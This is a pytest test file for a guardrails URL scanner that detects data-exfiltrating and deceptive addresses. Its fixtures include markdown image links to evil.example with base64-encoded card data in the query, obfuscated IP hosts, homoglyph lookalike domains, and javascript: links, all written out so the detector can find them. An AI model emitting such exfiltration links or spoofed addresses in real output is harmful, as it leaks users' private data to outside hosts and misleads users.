"""Addresses that lead astray or carry something away are found; ordinary ones are left alone."""

import base64
from collections import Counter

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrails.guards.urls import build, host_of
from guardrails.policy import PolicyError

PACKED = base64.b64encode(b"the user's card is 4111 1111 1111 1111 and the name is Bob").decode()
FOUND = [
    ("images", "![x](https://evil.example/a.png?q=1)", "https://evil.example/a.png?q=1"),
    ("images", "![x]( <https://evil.example/a.png> )", "https://evil.example/a.png"),
    ("images", '![a](https://evil.example/a.png "title")', "https://evil.example/a.png"),
    ("images", "![a](//evil.example/a)", "//evil.example/a"),
    ("images", "see ![logo][1]\n\n[1]: https://evil.example/l.png", "https://evil.example/l.png"),
    ("images", '<IMG alt="a" src="HTTPS://evil.example/p">', "HTTPS://evil.example/p"),
    ("images", "<iframe src=https://evil.example/p></iframe>", "https://evil.example/p"),
    ("images", "background: url('https://evil.example/p')", "https://evil.example/p"),
    ("data", f"https://evil.example/?d={PACKED}", f"https://evil.example/?d={PACKED}"),
    ("data", "https://evil.example/?q=" + "a" * 300, "https://evil.example/?q=" + "a" * 300),
    ("data", "https://evil.example/#the%20card%20number%20is%204111111111111111", ""),
    ("data", "https://" + "6361726420697320343131312031313131" * 2 + ".evil.example/", ""),
    ("ip_hosts", "go to http://203.0.113.7:8080/x.", "http://203.0.113.7:8080/x"),
    ("ip_hosts", "http://2130706433/", ""),
    ("ip_hosts", "http://0x7f.1/", ""),
    ("ip_hosts", "http://[2001:db8::1]/x", ""),
    ("ip_hosts", "http://good.example@203.0.113.7/", ""),
    ("lookalikes", "https://xn--pypal-4ve.example/", ""),
    ("lookalikes", "https://pаypal.example/", ""),
    ("lookalikes", "https://ｐaypal.example/", ""),
    ("schemes", "[click](javascript:alert(1))", "javascript:alert(1))"),
    ("schemes", "data:text/html;base64,PHNjcmlwdD4=", ""),
]
CLEAN = [
    "see https://en.wikipedia.org/wiki/Guard_(disambiguation), https://docs.python.org/3/library/re.html#re.sub.",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s and https://github.com/a/b/issues?q=is%3Aissue+label%3Abug",
    "https://shop.example/a-very-long-slug-about-the-best-garden-chairs-of-the-year?utm_source=mail&utm_medium=link",
    "https://github.com/a/b/commit/9f8a7c6b5d4e3f2a1b0c9f8a7c6b5d4e3f2a1b0c?id=3f2504e0-4f89-11d3-9a0c-0305e82c3301",
    "https://münchen.de/rathaus and https://日本語.jp/",
    "![x](images/a.png) ![y](data:image/png;base64,iVBORw0KGgo=) <img src='/logo.svg'> url(#gradient)",
    "version 1.2.3.4 of javascript: a language; a[0]: 1; // a comment; list [1]: one",
]


def found(text: str, **parameters: object) -> list[tuple[str, str]]:
    findings = build(parameters).scanner().advance(text, 0, is_final=True)
    return [(each.entity, text[each.start : each.end]) for each in findings]


@pytest.mark.parametrize(("what", "text", "url"), FOUND)
def test_an_address_that_does_harm_is_found(what: str, text: str, url: str) -> None:
    assert [each for _, each in found(text, look_for=[what])] == [url or text]


@pytest.mark.parametrize("text", CLEAN)
def test_an_ordinary_address_is_left_alone(text: str) -> None:
    assert found(text) == []


@pytest.mark.parametrize(
    ("url", "is_unknown"),
    [
        ("https://example.com/a", False),
        ("https://EXAMPLE.com.:443/", False),
        ("https://docs.example.org/", False),
        ("https://example.org/", False),
        ("https://sub.example.com/", True),
        ("https://notexample.org/", True),
        ("https://example.com.evil.test/", True),
        ("https://example.com@evil.test/", True),
        ("https://evil.test#@example.com/", True),
        ("https://evil.test/?x=https://example.com/", True),
        ("www.evil.test", True),
    ],
)
def test_only_allowed_hosts_are_known(url: str, is_unknown: bool) -> None:
    entities = {
        entity for entity, _ in found(url, allowed_hosts=["Example.com", "*.example.org"], look_for=["hosts"])
    }

    assert entities == ({"UNKNOWN_HOST"} if is_unknown else set())


def test_what_is_trusted_may_carry_data_and_be_an_image() -> None:
    text = f"![x](https://cdn.example.com/?d={PACKED})"

    assert found(text, allowed_hosts=["*.example.com"]) == []


def test_an_address_inside_an_allowed_one_is_looked_at() -> None:
    text = "https://example.com/go?to=http://203.0.113.7/"

    assert found(text, allowed_hosts=["example.com"], look_for=["ip_hosts"]) == [
        ("IP_HOST", "http://203.0.113.7/")
    ]


def test_a_blocked_host_is_a_finding_whatever_else_is_looked_for() -> None:
    assert found("https://a.bad.test/", blocked_hosts=["*.bad.test"], look_for=[]) == [
        ("BLOCKED_HOST", "https://a.bad.test/")
    ]


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://a.b/c", "a.b"),
        ("https://u:p@A.b:80", "a.b"),
        ("https:\\\\evil.test\\x", "evil.test"),
        ("//a.b", "a.b"),
        ("https://a%2eb/", "a.b"),
        ("www.a.b/x", "www.a.b"),
        ("www.a.b:8080/x", "www.a.b"),
        ("https:///a.b.", "a.b"),
        ("https:a.b", "a.b"),
        ("HTTPS://A.b?x", "a.b"),
        ("https://", ""),
    ],
)
def test_a_host_is_read_as_a_browser_reads_it(url: str, host: str) -> None:
    assert host_of(url) == host


@pytest.mark.parametrize(
    ("parameters", "sentence"),
    [
        ({"look_for": []}, "needs something to look for"),
        ({"allowed_hosts": ["https://example.com"]}, "is not a host"),
        ({"allowed_hosts": ["*."]}, "is not a host"),
    ],
)
def test_what_cannot_be_built_is_refused_in_a_sentence(parameters: dict[str, object], sentence: str) -> None:
    with pytest.raises(PolicyError, match=sentence):
        build(parameters)


PIECES = st.sampled_from(
    [
        "http://",
        "https://",
        "www.",
        "example.com",
        "sub.ok.org",
        "a.bad.test",
        "203.0.113.7",
        "0x7f.1",
        "[2001:db8::1]",
        "xn--abc.de",
        "pаypal.com",
        "/",
        "?",
        "#",
        ";",
        "&",
        "=",
        "@",
        ":",
        "\\",
        ")",
        "(",
        "]",
        "[",
        ".",
        ",",
        "!",
        "_",
        "a",
        "b/",
        "%20",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        ":8080",
        "user:pw@",
        "![x](",
        "<img",
        "src=",
        "url(",
        "javascript:x",
        "data:text/html,x",
        "HTTPS://",
        "é",
        "😀",
        "//evil.com",
        "[1]:",
        "<",
        ">",
    ]
    + [" ", "\n", f"q={PACKED}"]
)
TOLD = {"allowed_hosts": ["example.com", "*.ok.org"], "blocked_hosts": ["*.bad.test"]}
ALL = ("images", "data", "hosts", "ip_hosts", "lookalikes", "schemes")


@settings(max_examples=60, deadline=None)
@given(pieces=st.lists(PIECES, max_size=25))
def test_what_is_found_together_is_what_is_found_one_after_the_other(pieces: list[str]) -> None:
    text = "".join(pieces)
    together = Counter(found(text, **TOLD))

    blocked = Counter(found(text, **TOLD, look_for=[]))
    alone = sum((Counter(found(text, **TOLD, look_for=[what])) - blocked for what in ALL), blocked)

    assert together == alone


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("(http://1.2.3.4/a(b)).", "http://1.2.3.4/a(b)"),
        ("[http://1.2.3.4/a](x)!", "http://1.2.3.4/a](x)"),
        ("{[(http://1.2.3.4/)]};", "http://1.2.3.4/"),
        ("http://1.2.3.4/a).).)", "http://1.2.3.4/a"),
        ("http://1.2.3.4/(a).?", "http://1.2.3.4/(a)"),
    ],
)
def test_an_address_ends_before_what_ends_the_sentence(text: str, url: str) -> None:
    assert found(text, look_for=["ip_hosts"]) == [("IP_HOST", url)]


def test_without_a_query_allowed_any_is_data() -> None:
    assert found("https://a.example/?q=1", look_for=["data"], max_query=0) == [
        ("URL_WITH_DATA", "https://a.example/?q=1")
    ]
